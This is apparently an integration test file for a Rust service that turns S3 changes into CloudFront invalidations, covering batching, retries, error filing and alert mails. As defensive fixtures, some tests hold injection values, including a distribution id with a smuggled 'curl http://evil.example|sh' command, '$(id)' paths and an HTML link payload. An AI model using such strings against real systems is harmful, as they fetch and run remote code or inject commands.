//! The three stages, with real SDK clients over HTTP: queues, buckets and topic on the emulator,
//! CloudFront by the strict stand-in.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "stages/pauses.rs"]
mod pauses;
#[path = "stages/root_objects.rs"]
mod root_objects;
mod support;

use std::time::{Duration, SystemTime};

use aws_lambda_events::sqs::SqsBatchResponse;
use invalidator::incidents::report;
use invalidator_core::cost::ledger::{LEDGER_KEY, Ledger, Spending, Terms, Trust};
use invalidator_core::cost::month::Month;
use invalidator_core::event::BucketName;
use invalidator_core::incident::{Incidents, Rejection, STATE_KEY};
use invalidator_core::mode::Mode;
use invalidator_core::ration::STATE_KEY as RATIONS_KEY;
use invalidator_core::set::{COMMAND_LINE, OURSELVES};
use invalidator_core::state::{Beginning, Reading, SharedState, StateObject};
use invalidator_core::target::{DistributionId, Target};
use invalidator_core::tick::Window;
use serde_json::{Value, json};
use strict_cloudfront::{
    Behavior, CACHING_DISABLED, CachePolicy, Distribution, Fault, Operation, Origin, QueryStrings,
};
use support::account::{Account, flush, s3_event};
use time::OffsetDateTime;

const PUT: &str = "ObjectCreated:Put";
/// A message of SubmitQueue.
const SET: &str = r#"{"v":1,"distribution":"E1","paths":["/set"]}"#;

const DELETE: &str = "ObjectRemoved:Delete";

fn site(id: &str) -> Distribution {
    Distribution::new(id, Origin::s3("site", "site"))
}

fn failed(response: SqsBatchResponse) -> usize {
    response.batch_item_failures.len()
}

#[tokio::test]
async fn changes_are_buffered_together_and_one_tick_is_asked_for() {
    let account = Account::new(&[("DEBOUNCE_SECONDS", "300")]).await;
    let window = || Window::at(SystemTime::now(), Duration::from_secs(300)).number();
    let first = window();
    account
        .change(&[(PUT, "a"), (PUT, "b"), (DELETE, "c")])
        .await;
    account.change(&[(PUT, "d")]).await;
    // Another environment does not know that the tick was sent, but the queue does.
    let other = account.another_environment();
    let event = s3_event(&[(PUT, "e")]).to_string();
    invalidator::handler::handle(&other, &event, u64::MAX / 1_000_000)
        .await
        .unwrap();
    assert_eq!(account.buffered().await, 3, "one message an event");
    let ticks = account.ticks().await as u64;
    let windows = 1 + window() - first;
    assert!(
        (1..=windows).contains(&ticks),
        "{ticks} in {windows} windows"
    );
}

#[tokio::test]
async fn uploads_under_an_exception_path_are_dropped_and_deletions_are_not() {
    let account = Account::new(&[]).await;
    account
        .tag(&[
            ("exceptionPaths", "resources/upload:tmp"),
            ("exceptionPaths2", "drafts"),
        ])
        .await;
    account.cloudfront.add(site("E1"));
    account
        .change(&[
            (PUT, "resources/upload/1.jpg"),
            (PUT, "tmp/a"),
            (PUT, "drafts/b"),
        ])
        .await;
    assert_eq!(
        (account.buffered().await, account.ticks().await),
        (0, 0),
        "nothing to do, so no tick"
    );
    account
        .change(&[
            (PUT, "resources/uploads/1.jpg"),
            (DELETE, "tmp/a"),
            (PUT, "tmp/b"),
        ])
        .await;
    account.flush_and_submit().await;
    assert_eq!(
        account.cloudfront.paths("E1"),
        ["/resources/uploads/1.jpg", "/tmp/a"]
    );
}

/// Where nothing is skipped, they would only be carried about.
#[tokio::test]
async fn the_ids_of_versions_are_kept_only_where_the_bucket_opted_in() {
    for (tag, expected) in [
        (
            ("invalidate", "changed"),
            r#"{"version":4,"buckets":[{"bucket":"site","created":[["a",1795226584567,"v1"]],"deleted":[["b",1795226584567]]}]}"#,
        ),
        (
            ("other", "changed"),
            r#"{"version":1,"buckets":[{"bucket":"site","created":[["a",1795226584567]],"deleted":[["b",1795226584567]]}]}"#,
        ),
    ] {
        let account = Account::new(&[]).await;
        account.tag(&[tag]).await;
        let mut event = s3_event(&[(PUT, "a"), (DELETE, "b")]);
        for (record, id) in [(0, "v1"), (1, "v2")] {
            event["Records"][record]["s3"]["object"]["versionId"] = json!(id);
        }
        account.invoke(&event).await.unwrap();
        let receive = account.app.clients.sqs().receive_message();
        let queue = account.app.config.buffer_queue.as_str();
        let received = receive.queue_url(queue).send().await.unwrap();
        assert_eq!(received.messages()[0].body(), Some(expected), "{tag:?}");
    }
}

#[tokio::test]
async fn changes_of_a_bucket_whose_tags_cannot_be_read_are_kept() {
    let account = Account::new(&[]).await;
    account
        .app
        .clients
        .s3()
        .delete_bucket()
        .bucket("site")
        .send()
        .await
        .unwrap();
    account.change(&[(PUT, "a")]).await;
    assert_eq!(account.buffered().await, 1);
}

#[tokio::test]
async fn a_long_cached_error_page_that_changes_empties_the_cache() {
    let account = Account::new(&[]).await;
    let app = site("E1").error_page(403, "/index.html", 1_800);
    let brief = site("E2").error_page(403, "/index.html", 10);
    account.cloudfront.add(app);
    account.cloudfront.add(brief);
    account
        .change(&[(PUT, "index.html"), (PUT, "app.js")])
        .await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/*"]);
    assert_eq!(account.cloudfront.paths("E2"), ["/app.js", "/index.html"]);
}

#[tokio::test]
async fn a_record_that_cannot_be_read_fails_the_event_after_the_others_were_buffered() {
    let account = Account::new(&[]).await;
    let mut event = s3_event(&[(PUT, "a"), (PUT, "b")]);
    event["Records"][1]["s3"]["bucket"] = json!({});
    let error = account.invoke(&event).await.unwrap_err().to_string();
    assert!(
        error.contains("Records[1]") && error.contains("bucket.name"),
        "{error}"
    );
    assert_eq!(account.buffered().await, 1);
    let error = account
        .invoke(&json!({ "hello": "world" }))
        .await
        .unwrap_err()
        .to_string();
    assert!(
        error.contains("not an event this function knows") && error.contains("hello"),
        "{error}"
    );
}

#[tokio::test]
async fn of_a_batch_from_a_queue_only_the_unreadable_message_goes_back() {
    let account = Account::new(&[]).await;
    let message = |id: &str, body: String| json!({ "messageId": id, "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:us-east-1:1:s3-events", "body": body });
    let event = json!({ "Records": [message("good", s3_event(&[(PUT, "a")]).to_string()), message("bad", "hello".to_owned())] });
    let response = account.invoke(&event).await.unwrap();
    let ids: Vec<_> = response
        .batch_item_failures
        .iter()
        .map(|failure| failure.item_identifier.as_str())
        .collect();
    assert_eq!(ids, ["bad"]);
    assert_eq!(account.buffered().await, 1);
}

#[tokio::test]
async fn a_test_event_is_a_success() {
    let account = Account::new(&[]).await;
    account
        .invoke(&json!({ "Service": "Amazon S3", "Event": "s3:TestEvent", "Bucket": "site" }))
        .await
        .unwrap();
    assert_eq!((account.buffered().await, account.ticks().await), (0, 0));
}

#[tokio::test]
async fn every_distribution_that_serves_a_key_is_told_once() {
    let account = Account::new(&[]).await;
    let uncached = Behavior::new("/api/*", "site").policy(CACHING_DISABLED);
    let elsewhere = Origin::s3("other", "other");
    account
        .cloudfront
        .add_cache_policy(CachePolicy::new("queries", 0, 60, 60).query_strings(QueryStrings::All));
    account.cloudfront.add(
        site("E1")
            .behavior(uncached)
            .default_root_object("index.html"),
    );
    account
        .cloudfront
        .add(Distribution::new("E2", Origin::s3("docs", "site").path("/docs")).staging());
    account
        .cloudfront
        .add(site("E3").behavior(Behavior::new("*.jpg", "site").policy("queries")));
    account.cloudfront.add(site("E4").disabled());
    account.cloudfront.add(
        site("E5")
            .origin(elsewhere)
            .default_behavior(Behavior::default_for("other")),
    );
    let group =
        Distribution::new("E6", Origin::s3("first", "other")).origin(Origin::s3("second", "site"));
    account.cloudfront.add(
        group
            .origin_group("both", ["first", "second"])
            .default_behavior(Behavior::default_for("both").legacy(0, 0, 3_600)),
    );

    account
        .change(&[
            (PUT, "index.html"),
            (PUT, "docs/a+b.html"),
            (PUT, "x.jpg"),
            (PUT, "api/new"),
            (DELETE, "api/old"),
            (PUT, "x.jpg"),
        ])
        .await;
    account.flush_and_submit().await;

    let told = |id: &str| account.cloudfront.paths(id);
    assert_eq!(
        told("E1"),
        ["/", "/api/old", "/docs/a%20b.html", "/index.html", "/x.jpg"]
    );
    assert_eq!(told("E2"), ["/a%20b.html"]);
    assert_eq!(
        told("E3"),
        [
            "/api/new",
            "/api/old",
            "/docs/a%20b.html",
            "/index.html",
            "/x.jpg*"
        ]
    );
    assert_eq!(told("E4"), [""; 0]);
    assert_eq!(told("E5"), [""; 0]);
    assert_eq!(
        told("E6"),
        [
            "/api/new",
            "/api/old",
            "/docs/a%20b.html",
            "/index.html",
            "/x.jpg"
        ]
    );
    assert_eq!(account.cloudfront.invalidations("E1").len(), 1);
    assert_eq!(account.buffered().await, 0, "acknowledged");
}

#[tokio::test]
async fn whatever_a_key_holds_all_its_variants_are_cleared() {
    let account = Account::new(&[]).await;
    let queries = CachePolicy::new("queries", 0, 60, 60).query_strings(QueryStrings::All);
    account.cloudfront.add_cache_policy(queries);
    let default = Behavior::default_for("site").policy("queries");
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2").default_behavior(default));
    let website = Distribution::new("E3", Origin::website("site", "site"));
    account.cloudfront.add(website);
    let keys = [
        "a b+c.html",
        "100%25.html",
        "what?.html",
        "a~b/c.html",
        "(it's) [new] {x}|\\^`<>\"#.html",
        "-_.!$&*,:;=@",
        "café/한.html",
        "folder/",
        "docs/index.html",
    ];
    let encoded: Vec<_> = keys.iter().map(|key| form_encoded(key)).collect();
    let changes: Vec<_> = encoded.iter().map(|key| (PUT, key.as_str())).collect();
    account.change(&changes).await;
    account.flush_and_submit().await;
    for key in keys {
        let path = format!("/{key}");
        let clears = |id: &str, query| account.cloudfront.clears(id, &path, query);
        assert!(clears("E1", None), "{key}");
        assert!(clears("E2", None) && clears("E2", Some("v=2")), "{key}");
        assert!(clears("E3", None), "{key}");
    }
    // Where no query string is in the cache key, none is paid for.
    assert!(
        !account
            .cloudfront
            .clears("E1", "/café/한.html", Some("v=2"))
    );
    assert!(account.cloudfront.clears("E3", "/docs/", None));
    assert!(!account.cloudfront.clears("E1", "/docs/", None));
    assert!(!account.cloudfront.clears("E2", "/folder/other.html", None));
}

/// A key as S3's events hold it.
fn form_encoded(key: &str) -> String {
    let encoded = percent_encoding::utf8_percent_encode(key, percent_encoding::NON_ALPHANUMERIC);
    encoded.to_string().replace("%20", "+")
}

#[tokio::test]
async fn a_change_that_no_distribution_serves_is_acknowledged() {
    let account = Account::new(&[]).await;
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.buffered().await, 0);
}

#[tokio::test]
async fn distributions_on_later_pages_are_told_too() {
    let account = Account::new(&[]).await;
    for n in 0..126 {
        account.cloudfront.add(site(&format!("E{n:03}")));
    }
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(
        account
            .cloudfront
            .calls_of(Operation::ListDistributions)
            .len(),
        2
    );
    for n in 0..126 {
        assert_eq!(
            account.cloudfront.paths(&format!("E{n:03}")),
            ["/a"],
            "E{n:03}"
        );
    }
}

#[tokio::test]
async fn a_large_upload_is_cut_into_sets_cloudfront_takes() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    let keys: Vec<String> = (0..7_000).map(|n| format!("folder/{n:05}.html")).collect();
    for keys in keys.chunks(1_000) {
        let changes: Vec<_> = keys.iter().map(|key| (PUT, key.as_str())).collect();
        account.change(&changes).await;
    }
    account.flush_and_submit().await;
    let sizes: Vec<_> = account
        .cloudfront
        .invalidations("E1")
        .iter()
        .map(|it| it.paths.len())
        .collect();
    assert_eq!(sizes, [3_000, 3_000, 1_000]);
    assert_eq!(account.buffered().await, 0);
}

#[tokio::test]
async fn what_cloudfront_refuses_is_filed_and_mailed_and_holds_no_one_up() {
    let account = Account::new(&[]).await;
    for id in ["E1", "E2", "E3"] {
        account.cloudfront.add(site(id));
    }
    for id in ["E1", "E3"] {
        account.cloudfront.fail(
            Fault::AccessDenied
                .always()
                .on(Operation::CreateInvalidation)
                .of(id),
        );
    }
    account.change(&[(PUT, "a"), (DELETE, "%ED%95%9C")]).await;
    account.flush_and_submit().await;

    assert_eq!(account.cloudfront.paths("E2"), ["/a", "/%ED%95%9C"]);
    let files = account.error_files().await;
    assert_eq!(files.len(), 2);
    for ((key, metadata, text), id) in files.iter().zip(["E1", "E3"]) {
        let name = key.strip_prefix("invalidation_error/").unwrap();
        let (time_and_chance, rest) = name.split_at(30);
        assert!(
            time_and_chance[..20].bytes().all(|b| b.is_ascii_digit()),
            "{key}"
        );
        assert!(
            time_and_chance[20..]
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()),
            "{key}"
        );
        assert_eq!(rest, format!("_{id}.txt"));
        assert_eq!(
            *text,
            format!("CloudFront Id [{id}]\n(Set 1 Start)\n\n/a\n/%ED%95%9C\n\n(Set 1 End)\n\n")
        );
        assert_eq!(metadata["error-code"], "AccessDenied");
        assert!(!metadata["error-message"].is_empty());
    }
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1, "one for all");
    let (subject, text) = &mails[0];
    assert_eq!(subject, "[Error] CloudFront Invalidation");
    // The file that was written first comes first.
    let mut keys: Vec<_> = files.iter().map(|file| &file.0).collect();
    keys.sort_by_key(|key| text.find(key.as_str()));
    let (first, second) = (keys[0], keys[1]);
    let first_lines = format!("bucket : errors\n\n{first}\n{second}\n\naccount : ");
    assert!(text.starts_with(&first_lines), "{text}");
    assert!(
        text.contains("\nAccessDenied: 4 paths rejected, since "),
        "{text}"
    );
    assert!(
        text.contains(&format!("/submit.fifo {first} {second}\n")),
        "{text}"
    );
    assert_eq!(account.buffered().await, 0);
}

#[tokio::test]
async fn a_set_stays_in_the_queue_if_its_rejected_paths_cannot_be_filed() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    // The mode is in the same bucket: the function has to know it before.
    account.flush().await;
    account
        .app
        .clients
        .s3()
        .delete_bucket()
        .bucket("errors")
        .send()
        .await
        .unwrap();
    let error = Fault::AccessDenied.always();
    account
        .cloudfront
        .fail(error.on(Operation::CreateInvalidation).of("E1"));
    account.change(&[(PUT, "a")]).await;
    account.flush().await;
    assert_eq!(account.submit().await, 1);
    assert_eq!(
        (account.buffered().await, account.waiting_sets().await),
        (0, 1)
    );
    assert_eq!(account.cloudfront.paths("E2"), ["/a"], "not held up");
}

#[tokio::test]
async fn without_the_list_of_distributions_nothing_is_acknowledged() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.fail(
        Fault::AccessDenied
            .times(1)
            .on(Operation::ListDistributions),
    );
    account.change(&[(PUT, "a")]).await;
    assert_eq!(failed(account.flush().await), 1, "the tick comes back");
    assert_eq!(account.buffered().await, 1);
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
}

#[tokio::test]
async fn a_busy_distribution_waits_alone() {
    let mut account = Account::new(&[]).await;
    account.time = Duration::from_secs(23);
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let busy = Fault::TooManyInvalidationsInProgress.always().of("E1");
    account
        .cloudfront
        .fail(busy.on(Operation::CreateInvalidation));
    account.change(&[(PUT, "a")]).await;
    account.flush().await;
    assert_eq!(account.submit().await, 1, "it waits");
    assert_eq!(
        (account.buffered().await, account.waiting_sets().await),
        (0, 1)
    );
    assert_eq!(account.cloudfront.paths("E2"), ["/a"]);
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
    assert_eq!(account.submit().await, 0, "hidden for a while");
}

#[tokio::test]
async fn a_set_that_is_refused_for_a_moment_is_submitted_in_the_same_invocation() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    let busy = Fault::TooManyInvalidationsInProgress.times(2).of("E1");
    account
        .cloudfront
        .fail(busy.on(Operation::CreateInvalidation));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
    assert_eq!(account.waiting_sets().await, 0);
}

/// When each flush made its own set and each set waited alone, 3 keys that changed in 6 flushes cost 18
/// paths.
#[tokio::test]
async fn sets_that_wait_for_a_distribution_are_merged() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    for _ in 0..6 {
        account.change(&[(PUT, "a"), (PUT, "b"), (PUT, "c")]).await;
        account.flush().await;
    }
    assert_eq!(account.waiting_sets().await, 6);
    account.submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/b", "/c"]);
    assert_eq!(account.cloudfront.invalidations("E1").len(), 1);
    assert_eq!(account.waiting_sets().await, 0);
}

#[tokio::test]
async fn a_set_that_is_refused_for_too_long_is_filed_in_the_end() {
    let mut account = Account::new(&[("GIVE_UP_AFTER_SECONDS", "60")]).await;
    account.time = Duration::from_secs(22);
    account.cloudfront.add(site("E1"));
    let busy = Fault::TooManyInvalidationsInProgress.always();
    account
        .cloudfront
        .fail(busy.on(Operation::CreateInvalidation));
    let first_sent = r#"{"v":1,"distribution":"E1","paths":["/a","/c"],"first_sent":1}"#;
    account.enqueue("E1/paths", "old", first_sent).await;
    let young = r#"{"v":1,"distribution":"E1","paths":["/b","/c"]}"#;
    account.enqueue("E1/paths", "young", young).await;
    account.submit_once().await;
    let files = account.error_files().await;
    assert_eq!(files.len(), 1);
    assert_eq!(files[0].1["error-code"], "TooManyInvalidationsInProgress");
    assert!(
        files[0].1["error-message"].contains("gave up after"),
        "{:?}",
        files[0].1
    );
    assert!(files[0].2.contains("\n\n/a\n\n"), "{}", files[0].2);
    assert_eq!(account.mails().await.len(), 1);
}

#[tokio::test]
async fn a_call_whose_answer_is_lost_is_paid_once() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    // The invalidation is made, but the answer is lost.
    account.cloudfront.fail(
        Fault::InternalError
            .times(2)
            .on(Operation::CreateInvalidation)
            .after_it_took_effect(),
    );
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.invalidations("E1").len(), 1);
    assert_eq!(account.waiting_sets().await, 0);
}

#[tokio::test]
async fn a_call_whose_answer_stays_lost_is_the_same_call_in_the_next_invocation() {
    let mut account = Account::new(&[]).await;
    account.time = Duration::from_secs(22);
    account.cloudfront.add(site("E1"));
    let lost = Fault::InternalError.times(2).after_it_took_effect();
    account
        .cloudfront
        .fail(lost.on(Operation::CreateInvalidation));
    account.change(&[(PUT, "a")]).await;
    account.flush().await;
    account.submit_once().await;
    account.time = Duration::from_secs(150);
    account.change(&[(PUT, "b")]).await;
    account.flush().await;
    account.submit().await;
    let invalidations = account.cloudfront.invalidations("E1");
    let paths: Vec<_> = invalidations.iter().map(|it| it.paths.clone()).collect();
    assert_eq!(paths.concat().len(), 2, "{paths:?}");
}

/// Before, the old path was given up, and the young one was paid for a second time in another call.
#[tokio::test]
async fn a_call_whose_answer_stays_lost_is_given_up_as_a_whole_or_not_at_all() {
    let mut account = Account::new(&[("GIVE_UP_AFTER_SECONDS", "60")]).await;
    account.time = Duration::from_secs(22);
    account.cloudfront.add(site("E1"));
    let lost = Fault::InternalError.times(4).after_it_took_effect();
    account
        .cloudfront
        .fail(lost.on(Operation::CreateInvalidation));
    let old = r#"{"v":1,"distribution":"E1","paths":["/old"],"first_sent":1}"#;
    let young = r#"{"v":1,"distribution":"E1","paths":["/young"]}"#;
    account.enqueue("E1/paths", "old", old).await;
    account.enqueue("E1/paths", "young", young).await;
    account.submit_once().await;
    account.submit_once().await;
    assert_eq!(account.waiting_sets().await, 1, "the call, as a message");
    account.time = Duration::from_secs(150);
    account.submit().await;
    let invalidations = account.cloudfront.invalidations("E1");
    assert_eq!(invalidations.len(), 1);
    assert_eq!(invalidations[0].paths, ["/old", "/young"]);
    assert_eq!(account.error_files().await.len(), 0);
}

#[tokio::test]
async fn what_is_left_of_a_set_becomes_a_message_of_its_own() {
    let mut account = Account::new(&[("MAX_PATHS_PER_INVALIDATION", "2500")]).await;
    account.cloudfront.add(site("E1"));
    // One call is accepted, and then none for a while.
    let busy = Fault::Throttling.always().after(1);
    account
        .cloudfront
        .fail(busy.on(Operation::CreateInvalidation));
    account.time = Duration::from_secs(22);
    let paths: Vec<String> = (0..3_000).map(|n| format!("\"/{n:04}\"")).collect();
    let body = format!(
        r#"{{"v":1,"distribution":"E1","paths":[{}]}}"#,
        paths.join(",")
    );
    account.enqueue("E1/paths", "large", &body).await;
    account.submit_once().await;
    assert_eq!(account.cloudfront.paths("E1").len(), 2_500);
    assert_eq!(account.waiting_sets().await, 1, "the other 500");
    account.cloudfront.heal();
    account.submit().await;
    let mut told = account.cloudfront.paths("E1");
    told.sort();
    told.dedup();
    assert_eq!(told.len(), 3_000);
    assert_eq!(
        account.cloudfront.paths("E1").len(),
        3_000,
        "none is paid twice"
    );
}

/// Each row: a message that cannot be read, and why.
const UNREADABLE: &[(&str, &str)] = &[
    ("hello", "not a set of paths"),
    (
        r#"{"v":7,"distribution":"E1","paths":["/a"]}"#,
        "of version 7",
    ),
    (r#"{"v":1,"distribution":"E1"}"#, "paths"),
    (r#"{"v":1,"distribution":"E1","paths":[]}"#, "no paths"),
    (
        r#"{"v":1,"distribution":"E1","paths":["a b"]}"#,
        "`a b` is not an invalidation path",
    ),
    (
        r#"{"v":1,"distribution":"E1; curl http://evil.example|sh","paths":["/a"]}"#,
        "is not the id of a distribution",
    ),
    (
        r#"{"v":1,"distribution":"E1","tenant":"<a href=//evil.example>","paths":["/a"]}"#,
        "is not the id of a distribution tenant",
    ),
    (
        r#"{"v":1,"distribution":"E1","paths":["/a"],"caller_reference":"x"}"#,
        "not one of the function's own",
    ),
];

/// Such a message at the head of its group blocked its distribution for four hours.
#[tokio::test]
async fn a_message_that_cannot_be_read_does_not_block_its_group() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    let many = format!(
        r#"{{"v":1,"distribution":"E1","paths":[{}]}}"#,
        vec!["\"/a\""; 3_001].join(",")
    );
    let too_many = [(many.as_str(), "3001 paths, more than the 3000 of a set")];
    let rows: Vec<_> = UNREADABLE.iter().chain(&too_many).collect();
    for (n, (body, _)) in rows.iter().enumerate() {
        account.enqueue("E1/paths", &n.to_string(), body).await;
    }
    account.enqueue("E1/paths", "readable", SET).await;
    assert_eq!(account.submit().await, 0);
    assert_eq!(account.cloudfront.paths("E1"), ["/set"]);
    let files = account.error_files().await;
    for (body, expected) in &rows {
        let file = files.iter().find(|(.., text)| text == body);
        let (key, metadata, _) = file.unwrap();
        assert!(key.ends_with("_unreadable.txt"), "{key}");
        assert_eq!(metadata["error-code"], "UnreadableMessage");
        let why = &metadata["error-message"];
        assert!(why.contains(expected), "{why}");
    }
    assert_eq!(files.len(), rows.len());
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1);
    let (subject, text) = &mails[0];
    assert_eq!(subject, "[Error] CloudFront Invalidation");
    let quoted = text
        .lines()
        .filter(|line| line.starts_with("from the message: message group E1/paths: "));
    assert!(quoted.count() > 0, "{text}");
    assert!(
        !text.contains("http://evil") && !text.contains("invalidatorctl replay"),
        "{text}"
    );
    assert!(
        !text.contains(|c: char| c.is_control() && c != '\n'),
        "{text}"
    );
}

/// An id in a message was a link in the mail, and a command in the line that an admin pastes.
#[tokio::test]
async fn what_a_message_says_is_neither_a_link_nor_a_command_in_the_mail() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    let denied = Fault::AccessDenied.always();
    account
        .cloudfront
        .fail(denied.on(Operation::CreateInvalidation));
    let unknown = r#"{"v":1,"distribution":"EMADEUP","paths":["/http://evil.example/;id","/www.evil.example/"]}"#;
    let refused = r#"{"v":1,"distribution":"E1","paths":["/$(id)","/`id`","/'"],"by":"http://evil.example","reason":"\u001b[31m"}"#;
    let illegal = r#"{"v":1,"distribution":"E1; curl http://evil.example|sh","paths":["/a"]}"#;
    for (group, body) in [
        ("http://evil.example/paths", illegal),
        ("EMADEUP/paths", unknown),
        ("E1/paths", refused),
    ] {
        account.enqueue(group, group, body).await;
    }
    assert_eq!(account.submit().await, 0);
    let files = account.error_files().await;
    assert_eq!(files.len(), 3);
    let mails = account.mails().await;
    for (_, text) in &mails {
        assert!(
            !text.contains("://evil") && !text.contains("www.evil"),
            "{text}"
        );
        assert!(
            !text.contains(|c: char| c.is_control() && c != '\n'),
            "{text}"
        );
        let commands = text
            .lines()
            .filter(|line| line.starts_with("invalidatorctl"));
        for command in commands {
            let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./: ".contains(c);
            assert!(command.chars().all(is_plain), "{command}");
        }
    }
    let texts: String = mails.into_iter().map(|(_, text)| text).collect();
    for (key, ..) in files {
        assert!(texts.contains(&key), "{key} is in no mail: {texts}");
    }
}

#[tokio::test]
async fn a_message_whose_file_cannot_be_written_waits_and_an_alarm_knows() {
    let account = Account::new(&[]).await;
    account.flush().await;
    account.delete_error_bucket().await;
    account.enqueue("E1/paths", "1", "hello").await;
    account.take_metrics();
    assert_eq!(account.submit_once().await, 1);
    assert_eq!(account.waiting_sets().await, 1);
    let metrics = account.take_metrics();
    assert_eq!(metrics["OldestChange"].len(), 1);
    assert_eq!(metrics["SetsUnreadable"], [1]);
}

/// Eight submits at once, as the template allows, with ten messages each.
#[tokio::test]
async fn a_flood_of_messages_that_cannot_be_read_is_one_mail_and_holds_up_nobody() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    for n in 0..80 {
        let group = format!("group-{n}");
        account.enqueue(&group, &group, &format!("flood {n}")).await;
    }
    account.enqueue("E1/paths", "set", SET).await;
    assert_eq!(account.submit_at_once(8).await, 0);
    assert_eq!(account.cloudfront.paths("E1"), ["/set"]);
    assert_eq!(account.error_files().await.len(), 80);
    assert_eq!(account.mails().await.len(), 1);
    account.put_forward(Duration::from_secs(31 * 60));
    account.flush().await;
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1, "the digest");
    assert!(
        mails[0].1.contains("80 messages rejected since"),
        "{}",
        mails[0].1
    );
}

/// Each row: the setting, the targets that messages name, and why each is rejected.
#[tokio::test]
async fn a_target_that_is_unknown_or_not_allowed_is_rejected() {
    for (setting, rows) in [
        (
            "E1,dt_1",
            &[
                (r#""E2""#, "DistributionIds leaves E2 out"),
                (r#""ENONE""#, "DistributionIds leaves ENONE out"),
                (r#""E3","tenant":"dt_3""#, "leaves dt_3 (tenant of E3) out"),
                (r#""E1","tenant":"dt_3""#, "leaves dt_3 (tenant of E1) out"),
                (
                    r#""E1","tenant":"dt_1""#,
                    "E1 is not a multi-tenant distribution",
                ),
            ][..],
        ),
        (
            "",
            &[
                (
                    r#""ENONE""#,
                    "there is no distribution ENONE in this account",
                ),
                (
                    r#""E1","tenant":"dt_3""#,
                    "E1 is not a multi-tenant distribution",
                ),
                (r#""E3""#, "E3 serves nothing itself"),
                (r#""E4","tenant":"dt_3""#, "there is no dt_3 (tenant of E4)"),
                (r#""E3","tenant":"dt_4""#, "there is no dt_4 (tenant of E3)"),
                // CloudFront finds this one by its name.
                (
                    r#""E3","tenant":"dt_dt_3""#,
                    "there is no dt_dt_3 (tenant of E3)",
                ),
            ],
        ),
    ] {
        let account = Account::new(&[("DISTRIBUTION_IDS", setting)]).await;
        account.cloudfront.add(site("E1"));
        account.cloudfront.add(site("E2"));
        for id in ["E3", "E4"] {
            account.cloudfront.add(site(id).tenant_only());
        }
        account.cloudfront.add_tenant("E3", "dt_3", true);
        account.cloudfront.add_tenant("E3", "dt_dt_dt_3", true);
        for (n, (target, _)) in rows.iter().enumerate() {
            let body = format!(r#"{{"v":1,"distribution":{target},"paths":["/{n}"]}}"#);
            let group = format!("group-{n}");
            account.enqueue(&group, &group, &body).await;
        }
        assert_eq!(account.submit().await, 0, "{setting}");
        let files = account.error_files().await;
        assert_eq!(files.len(), rows.len());
        for (n, (target, expected)) in rows.iter().enumerate() {
            let path = format!("\n/{n}\n");
            let file = files.iter().find(|(.., text)| text.contains(&path));
            let metadata = &file.unwrap().1;
            assert_eq!(metadata["error-code"], "UnknownDistribution");
            let why = &metadata["error-message"];
            assert!(why.contains(expected), "{target}: {why}");
        }
        let calls = account.cloudfront.calls();
        assert!(calls.iter().all(|call| call.paths == 0), "{calls:?}");
        let mails = account.mails().await;
        assert_eq!(mails.len(), 1);
        let todo = "What to do: correct the id, or add it to DistributionIds.";
        assert!(mails[0].1.contains(todo), "{}", mails[0].1);
    }
}

/// A retry message for a distribution outside `DistributionIds` was submitted; only IAM stopped it.
#[tokio::test]
async fn a_set_outside_of_distribution_ids_costs_no_call_of_cloudfront() {
    let account = Account::new(&[("DISTRIBUTION_IDS", "E1")]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let body = r#"{"v":1,"distribution":"E2","paths":["/a"],"first_sent":1,"hops":1}"#;
    account.enqueue("E2/paths", "1", body).await;
    assert_eq!(account.submit().await, 0);
    assert_eq!(account.cloudfront.calls(), []);
    assert_eq!(account.error_files().await.len(), 1);
}

/// Flushes need the same list, and CloudFront allows few reads.
#[tokio::test]
async fn made_up_ids_do_not_make_the_function_list_again_and_again() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    account.cloudfront.clear_calls();
    let mut waiting = 0;
    for n in 0..12 {
        let body = format!(r#"{{"v":1,"distribution":"EMADEUP{n}","paths":["/a"]}}"#);
        account
            .enqueue(&format!("EMADEUP{n}/paths"), &format!("{n}"), &body)
            .await;
        waiting += account.submit_once().await;
    }
    let lists = || {
        account
            .cloudfront
            .calls_of(Operation::ListDistributions)
            .len()
    };
    assert_eq!(lists(), 1);
    let filed = account.error_files().await.len();
    assert_eq!(filed + waiting, 12, "none is lost");
    assert!(
        waiting > 0,
        "what was sent after the list may be newer than it"
    );
    // A known target does not wait for them.
    account.enqueue("E1/paths", "set", SET).await;
    assert_eq!(account.submit_once().await, 0);
    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/set"]);
    // A minute later the list may be read again.
    account.cloudfront.add(site("ENEW"));
    account.put_forward(Duration::from_secs(61));
